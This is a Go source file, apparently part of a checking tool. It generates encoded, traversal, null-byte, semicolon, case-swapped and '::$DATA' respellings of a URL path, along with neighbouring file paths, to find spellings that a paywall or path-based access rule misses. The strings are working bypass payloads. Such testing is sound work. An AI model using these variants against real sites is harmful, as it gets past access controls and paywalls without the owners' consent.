package check

import (
	"fmt"
	"slices"
	"strings"
)

// respell returns other spellings of a path that some server reads as that path.
// The path is in its percent-encoding, without a query.
func respell(path string) []string {
	rest := strings.TrimPrefix(path, "/")
	first, below, deep := strings.Cut(rest, "/")
	last := path[strings.LastIndexByte(path, '/')+1:]
	before := path[:len(path)-len(last)]
	var all []string
	add := func(spelled ...string) { all = append(all, spelled...) }

	add(
		path+"/", path+"//", path+"/.", path+"/x/..", path+"/%2e", path+"?x=1", path+"?",
		"//"+rest, "/./"+rest, "/x/../"+rest, "/%2e/"+rest, "/x/%2e%2e/"+rest, "/x%2f..%2f"+rest, "/x/..;/"+rest, "/.//"+rest,
		"/../"+rest, "/%2f"+rest, "/%5c"+rest, `/\`+rest, "//x/"+rest, `/\x/`+rest, `/x\..\`+rest, "/;a=b/"+rest,
		path+";", path+";a=b", path+"%3ba=b", path+"%3b", path+"%00", path+"%20", path+"%09", path+"%0a", path+"%0d%0a",
		path+"%3fx", path+"%23x", path+"#x", path+"%2f", path+"%252f", path+"%5c", path+`\`, path+"%00.html",
	)
	if rest == "" {
		return unique(all, path)
	}
	if strings.HasSuffix(strings.ToLower(last), ".php") {
		add(path+"/x", path+"/x.css")
	}
	add("/"+swapCase(rest), "/"+strings.ToUpper(rest))
	add("/"+escape(rest[:1], 1)+rest[1:], "/"+escape(rest[:1], 2)+rest[1:])
	add("/" + escapeAll(rest))
	add(path[:len(path)-1]+escape(path[len(path)-1:], 1), path[:len(path)-1]+escape(path[len(path)-1:], 2))
	if deep {
		for _, slash := range []string{
			"//", "/./", "/x/../", "%2f", "%2F", "%252f", `\`, "%5c", "%5C", "%255c", "/%2e/", "/x/%2e%2e/", "/x/%252e%252e/",
			";/", ";a=b/", "%3b/", "/;/", "%c0%af", "%e0%80%af", "%u002f", "/%20/", "%20/", "%09/", "/%00/", "//./", "///", "%2f%2f",
		} {
			add("/" + first + slash + below)
		}
		add(before+"./"+last, before+";x/"+last, before+"x/..%2f"+last)
	}
	return unique(all, path)
}

// neighbours returns paths that some servers serve the same under, and others as
// something else: a paywall need not know them.
func neighbours(path string) []string {
	if path == "/" {
		return nil
	}
	first := strings.TrimPrefix(path, "/")
	var more []string
	if folder, ok := strings.CutSuffix(path, "/index.html"); ok {
		more = append(more, folder+"/")
	}
	if name, ok := strings.CutSuffix(path, ".html"); ok {
		more = append(more, name)
	}
	return append(more, []string{
		path + ".", path + ".gz", path + ".br", path + ".zst", path + ".json", path + ".html", path + "/index.html", path + "/index.php", path + "::$DATA", path + "~", path + "%2500",
		"/" + escape(first[:1], 3) + first[1:], "/index.php" + path,
	}...)
}

func unique(all []string, path string) []string {
	all = slices.DeleteFunc(all, func(s string) bool { return s == path || s == "" })
	var kept []string
	for _, s := range all {
		if !slices.Contains(kept, s) {
			kept = append(kept, s)
		}
	}
	return kept
}

// escape percent-encodes the text, several times over. What is escaped already,
// and slashes, it leaves.
func escape(s string, times int) string {
	if strings.ContainsAny(s, "%/") {
		return s
	}
	var b strings.Builder
	for i := range len(s) {
		fmt.Fprintf(&b, "%%%s%02x", strings.Repeat("25", times-1), s[i])
	}
	return b.String()
}

// escapeAll percent-encodes all letters and digits that are not escaped.
func escapeAll(s string) string {
	var b strings.Builder
	for i := 0; i < len(s); i++ {
		switch {
		case s[i] == '%' && i+2 < len(s):
			b.WriteString(s[i : i+3])
			i += 2
		case s[i] == '/':
			b.WriteByte('/')
		default:
			b.WriteString(escape(s[i:i+1], 1))
		}
	}
	return b.String()
}

// swapCase turns the case of every other letter.
func swapCase(s string) string {
	b := []byte(s)
	for i := range b {
		switch c := b[i]; {
		case i > 0 && s[i-1] == '%' || i > 1 && s[i-2] == '%':
		case i%2 == 0 && 'a' <= c && c <= 'z':
			b[i] = c - 'a' + 'A'
		case i%2 == 0 && 'A' <= c && c <= 'Z':
			b[i] = c - 'A' + 'a'
		}
	}
	return string(b)
}
